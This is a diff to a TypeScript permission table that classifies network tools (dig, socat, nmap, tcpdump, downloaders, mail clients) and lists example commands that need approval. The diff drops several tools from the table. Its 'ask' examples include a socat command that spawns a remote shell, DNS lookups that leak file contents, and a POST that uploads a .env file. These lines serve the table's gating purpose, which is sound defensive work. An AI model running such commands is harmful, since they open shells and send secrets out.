@@ -68,7 +68,7 @@ export const REMOTE: readonly ToolSpec[] = [
     options: `
       -46uvhmr
       -b -c -p -q -t -x -y =text
-      -k -f =read
+      -k -f =unknown
     `,
     operands: 'text*',
     does: 'network',
@@ -77,8 +77,7 @@ export const REMOTE: readonly ToolSpec[] = [
     ask: ['dig example.com', 'dig +short $(cat x).example.com', 'dig -f list', 'dig @192.0.2.1 x txt'],
   },
   {
-    names:
-      'host nslookup whois traceroute traceroute6 tracepath mtr arping ping6 fping hping3 finger rdate ntpdate',
+    names: 'host nslookup whois traceroute traceroute6 tracepath mtr arping ping6 fping hping3 rdate ntpdate',
     options: `
       -46adlnrsvwCV
       -c -i -m -p -q -t -N -R -T -W =text
@@ -129,13 +128,12 @@ export const REMOTE: readonly ToolSpec[] = [
     ask: ['socat TCP:192.0.2.1:1 EXEC:sh', 'socat - TCP:h:1'],
   },
   {
-    names:
-      'telnet ftp lftp tftp rlogin rsh ncftp smbclient rclone s3cmd mosquitto_pub mosquitto_sub swaks sendmail mail',
+    names: 'tftp rlogin rsh ncftp smbclient rclone s3cmd mosquitto_pub mosquitto_sub swaks sendmail mail',
     style: 'none',
     operands: 'text*',
     does: 'network; exec - sends commands to another machine',
     allow: [],
-    ask: ['telnet host', 'ftp example.com', 'lftp -e get h', 'rclone copy a r:b', 'mail -s x a@example.com'],
+    ask: ['tftp host', 'rclone copy a r:b', 'mail -s x a@example.com'],
   },
   {
     names: 'nmap masscan zmap',
@@ -146,7 +144,7 @@ export const REMOTE: readonly ToolSpec[] = [
     ask: ['nmap -sV host', 'nmap --script=./x host'],
   },
   {
-    names: 'tcpdump tshark dumpcap ngrep iftop nethogs',
+    names: 'tcpdump tshark dumpcap ngrep',
     style: 'none',
     operands: 'text*',
     does: 'secret - listens to what others send; exec - may start programs and write files',
@@ -162,16 +160,12 @@ export const REMOTE: readonly ToolSpec[] = [
     ask: ['http example.com', 'http POST example.com f@.env', 'xh -d example.com'],
   },
   {
-    names: 'aria2c axel yt-dlp youtube-dl lynx w3m links elinks',
+    names: 'aria2c axel yt-dlp youtube-dl',
     style: 'none',
     operands: 'text*',
     does: 'network; write:. - saves what it gets; exec - may start programs',
     allow: [],
-    ask: [
-      'aria2c https://example.com/x',
-      'yt-dlp --exec id https://example.com',
-      'lynx -dump https://example.com',
-    ],
+    ask: ['aria2c https://example.com/x', 'yt-dlp --exec id https://example.com'],
   },
   {
     names: 'gh glab hub',
